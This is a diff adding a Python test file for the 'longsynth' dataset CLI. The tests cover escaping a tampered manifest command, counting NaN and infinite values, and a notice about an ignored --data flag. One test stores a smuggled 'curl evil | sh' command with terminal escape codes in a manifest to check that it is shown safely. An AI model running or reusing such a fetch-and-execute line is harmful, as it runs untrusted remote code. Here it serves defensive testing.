@@ -1,0 +1,81 @@
+"""The small things a hostile or new user met: a stored command printed with its escapes
+shown, --data said to be ignored where it is, info on non-finite values."""
+import json
+import os
+
+import numpy as np
+import pytest
+from click.testing import CliRunner
+
+from longsynth import store
+from longsynth.cli.main import cli
+
+
+def test_verify_shows_a_crafted_command_escaped_and_does_not_tell_you_to_run_it(tmp_path):
+    root = tmp_path / "d"
+    store.generate(str(root), "cumsum", {"L": 32}, num_samples=120, shard_size=40, workers=1)
+    path = root / "manifest.json"
+    m = json.loads(path.read_text())
+    m["command"] = "longsynth gen cumsum; curl evil | sh \x1b[2J\x1b]0;owned\x07"
+    m["complete"] = False
+    m["splits"]["train"]["shards"] = m["splits"]["train"]["shards"][:1]
+    m["splits"]["train"]["digest"] = None
+    path.write_text(json.dumps(m))
+    r = CliRunner().invoke(cli, ["verify", str(root)])
+    assert r.exit_code == 1 and "\x1b" not in r.output and "\x07" not in r.output, repr(r.output)
+    assert "the command recorded in the manifest (check it before you run it): longsynth gen cumsum; curl evil | " \
+           "sh \\x1b[2J\\x1b]0;owned\\x07" in r.output
+    assert "rerun its gen command" not in r.output
+    r = CliRunner().invoke(cli, ["info", str(root)])
+    assert "\x1b" not in r.output and "made by (the command recorded in the manifest): longsynth gen" in r.output
+
+
+def test_info_counts_nan_and_infinite_values_instead_of_warning(tmp_path, monkeypatch):
+    from longsynth.store import checks
+
+    root = tmp_path / "d"
+    store.generate(str(root), "cumsum", {"L": 32}, num_samples=60, workers=1)
+    real = checks._Moments.add
+
+    def poisoned(self, a):  # the values info reads, with a NaN and two infinities in them
+        a = np.array(a, dtype=np.float64)
+        if a.size > 3:
+            a.flat[:3] = [np.nan, np.inf, -np.inf]
+        real(self, a)
+
+    monkeypatch.setattr(checks._Moments, "add", poisoned)
+    with _no_warning():
+        r = CliRunner().invoke(cli, ["info", str(root)])
+    assert r.exit_code == 0, r.output
+    line = next(x for x in r.output.splitlines() if x.strip().startswith("inputs"))
+    assert "NaN" in line and "+inf" in line and "-inf" in line and "left out" in line
+    assert "min inf" not in line and "max -inf" not in line
+    s = store.info(str(root))
+    assert s["stats"]["inputs"]["nonfinite"]["NaN"] >= 1 and np.isfinite(s["stats"]["inputs"]["mean"])
+
+
+def _no_warning():
+    import warnings
+
+    class Guard:
+        def __enter__(self):
+            self.w = warnings.catch_warnings()
+            self.w.__enter__()
+            warnings.simplefilter("error", RuntimeWarning)
+
+        def __exit__(self, *exc):
+            return self.w.__exit__(*exc)
+
+    return Guard()
+
+
+def test_evaluate_says_when_data_is_ignored(tmp_path):
+    pytest.importorskip("torch")
+    import torch
+
+    r = CliRunner().invoke(cli, ["evaluate", "dlr", "--suite", "cumsum", "--steps", "1", "--data", str(tmp_path),
+                                 "--out", str(tmp_path / "rep")])
+    torch.set_num_threads(1)
+    assert r.exit_code == 0, r.output
+    assert "--data is ignored for cumsum: it is generated on the fly" in r.output
+    assert os.path.exists(tmp_path / "rep" / "report.md")
